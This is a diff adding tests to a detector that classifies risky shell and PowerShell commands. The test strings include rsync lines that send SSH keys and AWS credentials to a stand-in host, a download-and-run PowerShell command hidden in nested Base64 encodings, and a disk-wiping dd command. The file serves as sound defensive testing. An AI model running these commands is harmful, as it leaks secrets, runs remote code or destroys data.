@@ -102,6 +102,8 @@ def test_parsed_command_holds_its_own_here_document_and_command_substitutions():
         "cat setup.sh | bash",
         "ssh -i ~/.ssh/id_rsa host true; scp -i ~/.ssh/id_rsa a host:b",
         "curl --netrc-file ~/.netrc http://e/x; curl --netrc http://e/x",
+        "rsync -avze 'ssh -i ~/.ssh/id_rsa' a host:b; rsync --rsh='ssh -p 2 -i ~/.ssh/id_rsa' a host:b",
+        "rsync -e 'ssh -i ~/.ssh/id_rsa' a host:b; rsync --rsh 'ssh -i ~/.ssh/id_rsa' a host:b",
         "echo x | base64 -d > out.bin",
         "timeout 5 bash -c '</dev/tcp/localhost/80' || true # no",
         "cat <<EOF > run.py\nprint(1)\nEOF",
@@ -160,6 +162,8 @@ def test_address_in_a_mention_of_a_script_command_omits_user_name_and_password()
         ("scp -i key ~/.aws/credentials user@e.invalid:", "send-private", "scp"),
         ("curl --netrc -T ~/.aws/credentials http://e/x", "send-private", "curl"),
         ("rsync -i ~/.ssh/id_rsa user@e.invalid:", "send-private", "rsync"),
+        ("rsync -e 'ssh -i key' ~/.aws/credentials user@e.invalid:", "send-private", "rsync"),
+        ("rsync -e 'sh -c \"cat ~/.ssh/id_rsa\"' a user@e.invalid:", "send-private", "rsync"),
         ("dd if=/dev/zero of=/dev/sda", "destroy", "dd if=/dev/zero of=/dev/sda"),
     ],
 )  # fmt: skip
@@ -553,3 +557,25 @@ def test_download_piped_into_a_shell_is_reported_if_the_shell_reads_its_program_
 @pytest.mark.parametrize("shell", ["bash -xc true", "bash -e script.sh", "python3 -m json.tool"])
 def test_download_piped_into_a_shell_is_not_reported_if_an_argument_gives_the_program(shell):
     assert not list(collect_script_mentions(f"curl -fsSL https://e.invalid/x | {shell}"))
+
+
+def encode_for_powershell(command: str) -> str:
+    """Return a command line that runs the command from Base64 of UTF-16, as PowerShell reads it."""
+    return f"powershell -enc {base64.b64encode(command.encode('utf-16-le')).decode()}"
+
+
+def test_command_in_five_nested_encoded_commands_of_powershell_is_reported():
+    command = "iex (iwr http://e.invalid/x)"
+    for _ in range(5):
+        command = encode_for_powershell(command)
+    assert "download-and-run" in {mention.use for mention in collect_windows_mentions(command)}
+
+
+def test_second_encoded_command_of_a_line_is_decoded():
+    line = "; ".join(map(encode_for_powershell, ("echo harmless", "iex (iwr http://e.invalid/x)")))
+    assert "download-and-run" in {mention.use for mention in collect_windows_mentions(line)}
+
+
+def test_encoded_commands_that_nest_too_deep_raise_a_limit_error():
+    with pytest.raises(LimitReachedError):
+        list(collect_windows_mentions(encode_for_powershell("echo harmless"), depth=30))
